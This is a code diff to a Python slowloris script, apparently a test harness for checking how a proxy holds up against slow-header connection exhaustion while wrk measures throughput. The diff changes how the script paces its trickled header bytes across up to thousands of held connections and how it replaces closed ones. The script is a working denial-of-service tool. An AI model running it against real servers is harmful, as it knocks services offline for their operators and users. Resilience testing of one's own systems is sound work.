@@ -1,6 +1,7 @@
 """A slowloris: holds N connections to a proxy, each sending a request head a byte at a time
-(one more header byte per connection every INTERVAL seconds, never the end of the head), and
-opens a new one whenever the proxy closes one (as an attacker would), for DURATION seconds.
+(one more header byte per connection every INTERVAL seconds, the connections' turns spread over
+the interval, never the end of the head), and opens a new one whenever the proxy closes one (as
+an attacker would), for DURATION seconds.
 
     slowloris.py --port P [--connections 10000] [--interval 5] [--duration 30] [--source-ips 4]
 
@@ -53,27 +54,42 @@ def main():
     start = time.monotonic()
     for _ in range(args.connections):
         add()
-    next_tick = time.monotonic()
+    # Each connection gets its next byte every INTERVAL seconds, the connections spread evenly
+    # over the interval (a slice every 50 ms): an attacker trickles, and a burst of 10,000 sends
+    # would also load the client's own core, where the measuring wrk runs.
+    slices = max(1, int(args.interval / 0.05))
+    next_slice, turn = time.monotonic(), 0
+
+    def send_to(s):
+        nonlocal closed
+        try:
+            if sent[s] < len(HEAD):
+                sent[s] += s.send(HEAD[sent[s]:sent[s] + 64])  # the request line first, then a byte a turn
+            else:
+                s.send(b"x")
+        except (BlockingIOError, InterruptedError):
+            pass
+        except OSError:
+            drop(s)
+
+    def drop(s):
+        nonlocal closed
+        sel.unregister(s)
+        del sent[s]
+        s.close()
+        closed += 1
+        add()
+
     while time.monotonic() - start < args.duration:
         now = time.monotonic()
-        if now >= next_tick:
-            for s in list(sent):
-                try:
-                    if sent[s] < len(HEAD):
-                        k = s.send(HEAD[sent[s]:sent[s] + 64])  # the request line first, then a byte a tick
-                        sent[s] += k
-                    else:
-                        s.send(b"x")
-                except (BlockingIOError, InterruptedError):
-                    pass
-                except OSError:
-                    sel.unregister(s)
-                    del sent[s]
-                    s.close()
-                    closed += 1
-                    add()
-            next_tick = now + args.interval
-        for key, _ in sel.select(timeout=min(0.5, max(0.0, next_tick - time.monotonic()))):
+        if now >= next_slice:
+            everyone = list(sent)
+            for s in everyone[turn::slices]:
+                if s in sent:
+                    send_to(s)
+            turn = (turn + 1) % slices
+            next_slice = now + args.interval / slices
+        for key, _ in sel.select(timeout=max(0.0, next_slice - time.monotonic())):
             s = key.fileobj
             try:
                 data = s.recv(4096)
@@ -81,12 +97,8 @@ def main():
                 continue
             except OSError:
                 data = b""
-            if not data or data.startswith(b"HTTP/"):  # an answer (408) or a close: replaced
-                sel.unregister(s)
-                del sent[s]
-                s.close()
-                closed += 1
-                add()
+            if s in sent and (not data or data.startswith(b"HTTP/")):  # an answer (408) or a close: replaced
+                drop(s)
     print("slowloris: %d connections held at the end, %d closed by the proxy (each replaced)" % (len(sent), closed))
     for s in sent:
         s.close()
